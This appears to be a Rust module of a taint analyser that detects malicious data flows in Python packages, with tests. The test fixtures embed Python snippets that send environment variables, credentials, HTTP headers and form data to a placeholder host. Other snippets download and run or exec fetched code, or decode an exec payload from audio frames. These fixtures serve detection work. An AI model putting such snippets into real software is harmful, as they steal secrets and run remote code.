//! What other libraries hand to functions of this source: those that are registered with them, that stand in place of
//! theirs, or that have the shape a server calls.

use std::rc::Rc;

use ruff_python_ast::{self as ast, Expr};
use ruff_text_size::{Ranged, TextRange};

use crate::behaviours::BehaviourId;
use crate::heap::{Binding, Bound, Code, Object, Target};
use crate::interpreter::{Arguments, Interpreter};
use crate::names::NameId;
use crate::value::{Data, Marks, Origin, Value, union};

/// Behaviours whose functions hand on what came from elsewhere.
const RECEIVES: [&str; 2] = ["chat.receive", "callback.receive"];

/// Decorators of web frameworks that name a path: `@app.route("/run")`, `@router.post("/run")`.
const ROUTES: [&str; 9] = ["route", "get", "post", "put", "patch", "delete", "websocket", "api_route", "api_view"];

/// What a middleware of Django may define beside `__call__`.
const PROCESSORS: [&str; 5] = ["__call__", "process_request", "process_view", "process_response", "process_exception"];

/// Classes above a class that are looked at, and methods that one computed name may mean.
const MOST_ABOVE: u32 = 8;
const MOST_MEANT: usize = 16;

impl<'a> Interpreter<'a, '_> {
    /// The behaviour of a name whose functions are handed something, if it is one.
    pub(crate) fn hands_over(&self, id: NameId) -> Option<BehaviourId> {
        let known = self.names.behaviours(id);
        let table = self.names.table();
        RECEIVES.iter().filter_map(|word| table.id_of(word)).find(|behaviour| known.contains(behaviour))
    }

    /// The source of what a function is handed that a library or a server calls.
    pub(crate) fn handed(&mut self, node: &'a ast::StmtFunctionDef, class: Option<u32>) -> Option<u32> {
        let range = node.name.range();
        if let Some(served) = self.served(node, class) {
            return self.source_named(served, range);
        }
        self.overrides(class?, node.name.as_str(), range, 0)
    }

    /// The source that stands in the table under a name.
    fn source_named(&mut self, name: &str, range: TextRange) -> Option<u32> {
        let id = self.names.name(name)?;
        let behaviour = *self.names.behaviours(id).first()?;
        let callee = self.names.shared(id);
        self.record_source(behaviour, &callee, &[], range)
    }

    /// What a function is to a server, by its shape.
    fn served(&self, node: &ast::StmtFunctionDef, class: Option<u32>) -> Option<&'static str> {
        let has = |wanted: &str| takes(&node.parameters, wanted);
        if has("environ") && has("start_response") {
            return Some("served.wsgi");
        }
        if has("scope") && has("receive") && has("send") {
            return Some("served.asgi");
        }
        if has("request")
            && PROCESSORS.contains(&node.name.as_str())
            && class.is_some_and(|class| self.wraps_responses(class))
        {
            return Some("served.middleware");
        }
        node.decorator_list.iter().any(|decorator| is_route(&decorator.expression)).then_some("served.route")
    }

    /// `def __init__(self, get_response)`: a middleware of Django.
    fn wraps_responses(&self, class: u32) -> bool {
        let Some(scope) = self.class(class).map(|class| class.scope) else { return false };
        let Some(Value { data: Data::Function(made), .. }) = self.scopes[scope as usize].variables.get("__init__")
        else {
            return false;
        };
        self.function(*made).is_some_and(|made| match made.code {
            Code::Def(def) => takes(&def.parameters, "get_response"),
            Code::Lambda(_) => false,
        })
    }

    /// A method in place of one that a library calls: `emit` of a `logging.Handler`.
    fn overrides(&mut self, class: u32, method: &str, range: TextRange, depth: u32) -> Option<u32> {
        let bases = self.class(class).filter(|class| !class.bases.is_empty())?.bases.clone();
        bases.iter().find_map(|base| match base.data {
            Data::Name(id, _) => {
                if self.names.table().below(self.names.text(id)).is_empty() {
                    return None;
                }
                let full = self.names.attribute(id, method)?;
                let behaviour = self.hands_over(full)?;
                let callee = self.names.shared(full);
                self.record_source(behaviour, &callee, &[], range)
            }
            Data::Class(above) if depth < MOST_ABOVE => self.overrides(above, method, range, depth + 1),
            _ => None,
        })
    }

    /// A name without a dot that an import bound, of another project than this: `boto3`.
    pub(crate) fn is_other_project(&self, id: NameId) -> bool {
        let name = self.names.text(id);
        let own = self.unit.module.split('.').next().unwrap_or_default();
        !name.contains('.') && name != own && !crate::modules::is_builtin(name)
    }

    /// What a function gives that this source replaced, beside what it is given.
    pub(crate) fn given_by_replaced(&self, id: NameId, origin: Origin) -> Origin {
        match self.replaced.iter().find(|(replaced, _)| *replaced == id) {
            Some((_, source)) => {
                let marks = Marks { taints: vec![(*source, 0)], ..Marks::default() };
                union(&origin, &Some(Rc::new(marks)))
            }
            None => origin,
        }
    }

    /// `getattr(self, "do_" + word)`: any of the methods whose name begins so.
    pub(crate) fn meant(&mut self, object: &Value<'a>, key: &Value<'a>) -> Option<Value<'a>> {
        let Data::Instance(instance) = object.data else { return None };
        let begin = key.as_template()?.split("{}").next()?.to_owned();
        if begin.len() < 2 {
            return None;
        }
        let class = self.instance(instance)?.class;
        let scope = self.class(class)?.scope;
        let mut meant: Vec<u32> = self.scopes[scope as usize]
            .variables
            .iter()
            .filter_map(|(name, value)| match value.data {
                Data::Function(id) if name.starts_with(&begin) => Some(id),
                _ => None,
            })
            .filter(|id| self.function(*id).is_some_and(|function| function.binding == Binding::Plain))
            .collect();
        // In the order of definition: which of them is walked first must not hang on a table's order.
        meant.sort_unstable();
        meant.truncate(MOST_MEANT);
        if meant.is_empty() {
            return None;
        }
        let bound =
            Bound { target: Target::AnyOf(meant), receiver: Some(object.clone()), arguments: Arguments::default() };
        Some(Value::new(self.bound(bound)))
    }

    /// Calls each of the methods that a computed name may mean.
    pub(crate) fn enter_any(
        &mut self,
        methods: &[u32],
        receiver: Option<&Value<'a>>,
        given: &Arguments<'a>,
    ) -> Value<'a> {
        let mut origin = None;
        for method in methods {
            let result = self.enter(*method, receiver.cloned(), given.clone());
            origin = union(&origin, &self.origin_of(&result));
        }
        Value::from(Data::Unknown, origin)
    }

    /// `print(x, file=connection.makefile("w"))`.
    pub(crate) fn prints_away(&self, name: &str, arguments: &Arguments<'a>) -> bool {
        name == "print"
            && arguments.keyword("file").is_some_and(
                |file| matches!(file.data, Data::Name(id, 1..) if self.names.text(id).starts_with("socket.")),
            )
    }

    /// A table of single characters or numbers that a decoder picks from: the place says what is picked.
    pub(crate) fn is_alphabet(&self, object: &Value<'a>) -> bool {
        let items = match &object.data {
            Data::Literal(_) | Data::Text(_) | Data::BytesLiteral(_) | Data::Bytes(_) => return true,
            Data::Tuple(items) => items.as_slice(),
            Data::List(id) => self.items(*id),
            Data::Dict(id) => {
                return match self.heap.get(*id as usize) {
                    Some(Object::Dict(dict)) => {
                        dict.items.len() >= 2 && dict.items.iter().take(16).all(|(_, value)| is_letter(value))
                    }
                    _ => false,
                };
            }
            _ => return false,
        };
        items.len() >= 2 && items.iter().take(16).all(is_letter)
    }
}

fn is_letter(value: &Value<'_>) -> bool {
    value.as_str().is_some_and(|text| text.chars().take(3).count() <= 2)
}

fn takes(parameters: &ast::Parameters, wanted: &str) -> bool {
    parameters.iter_non_variadic_params().any(|parameter| parameter.parameter.name.as_str() == wanted)
}

fn is_route(decorator: &Expr) -> bool {
    let Expr::Call(call) = decorator else { return false };
    let Expr::Attribute(attribute) = &*call.func else { return false };
    ROUTES.contains(&attribute.attr.as_str())
        && call
            .arguments
            .args
            .first()
            .is_some_and(|path| matches!(path, Expr::StringLiteral(text) if text.value.to_str().starts_with('/')))
}

#[cfg(test)]
mod tests {
    use crate::{
        Role,
        tests::{analysed, flow, flows},
    };

    #[test]
    fn what_a_library_hands_to_its_own_is_followed() {
        for source in [
            "import logging, urllib.request as u\nclass H(logging.Handler):\n def emit(self, record):\n  \
             u.urlopen('https://host.invalid', data=self.format(record).encode())\n",
            "import requests\nclass Base(requests.adapters.HTTPAdapter):\n pass\nclass A(Base):\n \
             def send(self, request, **more):\n  requests.post('https://host.invalid', json=dict(request.headers))\n",
            "from sqlalchemy import event\nimport requests\n@event.listens_for(object, 'do_connect')\n\
             def c(dialect, record, args, given):\n requests.post('https://host.invalid', json=given)\n",
            "import requests, threading\nclass M:\n def __init__(self, get_response):\n  self.get_response = get_response\n \
             def __call__(self, request):\n  threading.Thread(target=self.a, args=(dict(request.POST),)).start()\n \
             def a(self, form):\n  requests.post('https://host.invalid', json=form)\n",
            "import requests\nasync def app(scope, receive, send):\n requests.post('https://host.invalid', json=scope)\n",
            "import requests\nclass A:\n def __call__(self, environ, start_response):\n  \
             requests.post('https://host.invalid', json=environ)\n",
        ] {
            flow(&analysed(Role::Package, source), "callback.receive", "network.send");
        }
        let own = "import requests\nclass H:\n def emit(self, record):\n  requests.post('https://host.invalid', json=record)\n";
        assert!(flows(&analysed(Role::Package, own)).is_empty());
    }

    #[test]
    fn a_path_of_a_server_receives_what_clients_send() {
        let source =
            "import subprocess\n@router.post('/run')\nasync def run(code: str):\n subprocess.getoutput(code)\n";
        flow(&analysed(Role::Package, source), "web.receive", "process.spawn");
    }

    #[test]
    fn what_a_replaced_function_gives_is_followed() {
        let source = "import requests, boto3\n_real = boto3.client\ndef client(*given, **more):\n made = _real(*given, **more)\n \
                      requests.post('https://host.invalid', json={'k': made.key})\n return made\nboto3.client = client\n";
        flow(&analysed(Role::Init, source), "code.patch", "network.send");
    }

    #[test]
    fn a_computed_name_of_a_method_means_each_that_begins_so() {
        let source = "import requests, os\nclass A:\n def do_sh(self, a):\n  os.system(a)\n def loop(self):\n  \
                      j = requests.get('https://host.invalid').json()\n  getattr(self, 'do_' + j['op'])(j['arg'])\nA().loop()\n";
        flow(&analysed(Role::Init, source), "network.fetch", "process.spawn");
    }

    #[test]
    fn a_decoder_that_picks_from_an_alphabet_passes_on_what_it_read() {
        let source = "import wave\nw = wave.open('a.wav')\nb = w.readframes(9)\n\
                      exec(''.join('abcdef'[x & 3] for x in b))\n";
        flow(&analysed(Role::Init, source), "decode.image", "code.exec");
    }

    #[test]
    fn what_is_printed_to_a_connection_is_sent() {
        let source = "import os, socket\nf = socket.create_connection(('host.invalid', 443)).makefile('w')\n\
                      print(dict(os.environ), file=f)\n";
        flow(&analysed(Role::Init, source), "environment.read", "network.send");
    }

    #[test]
    fn a_helper_that_starts_programs_is_walked_for_each_of_its_commands() {
        let source = "import subprocess\ndef run(*words):\n subprocess.run(['git', *words])\n\
                      run('init')\nrun('add', '-A')\nrun('commit')\nrun('gc')\nrun('push', 'https://a:b@host.invalid/c.git')\n";
        let analysis = analysed(Role::Init, source);
        let told = analysis.facts.iter().any(|fact| format!("{:?}", fact.kind).contains("host.invalid"));
        assert!(told);
    }

    #[test]
    fn a_path_is_known_by_its_last_part_in_another_function() {
        let source = "import subprocess, requests, tempfile\nfrom pathlib import Path\ndef fetch(url, file):\n \
                      with open(file, 'wb') as out:\n  out.write(requests.get(url).content)\ndef start(path):\n \
                      subprocess.Popen([path])\nclass A:\n def __init__(self):\n  self.out = Path(tempfile.gettempdir()) / 'runner'\n  \
                      fetch('https://host.invalid/a', str(self.out))\n  start(str(self.out))\n";
        flow(&analysed(Role::Package, source), "network.fetch", "process.spawn");
    }

    #[test]
    fn an_object_takes_along_what_its_attributes_were_given() {
        let source = "import os, json, urllib.request\nr = urllib.request.Request('https://host.invalid', method='POST')\n\
                      r.data = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(r)\n";
        flow(&analysed(Role::Init, source), "environment.read", "network.fetch");
    }

    #[test]
    fn an_operator_of_a_class_runs_its_method() {
        let source = "class V:\n def __init__(self, b):\n  self.b = b\n def __invert__(self):\n  exec(self.b)\n\
                      import requests\n~V(requests.get('https://host.invalid').text)\n";
        flow(&analysed(Role::Init, source), "network.fetch", "code.exec");
    }
}
